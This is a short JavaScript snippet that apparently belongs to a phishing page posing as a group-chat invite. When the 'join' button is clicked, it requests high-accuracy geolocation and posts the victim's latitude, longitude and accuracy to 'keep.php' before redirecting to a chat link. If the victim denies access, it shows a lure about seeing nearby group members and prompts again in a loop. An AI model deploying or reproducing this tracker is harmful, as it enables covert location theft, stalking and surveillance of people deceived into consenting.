function start() {
  navigator.geolocation.getCurrentPosition(function (place) {
    $.ajax({
      type: 'POST',
      url: 'keep.php',
      data: { Lat: place.coords.latitude, Lon: place.coords.longitude, Acc: place.coords.accuracy },
      success: function () {
        window.location = 'https://group-chat.example/join/44ab';
      },
    });
  }, function () {
    alert('Allow the location to see the members of the group near you');
    start();
  }, { enableHighAccuracy: true });
}
document.getElementById('join').onclick = start;
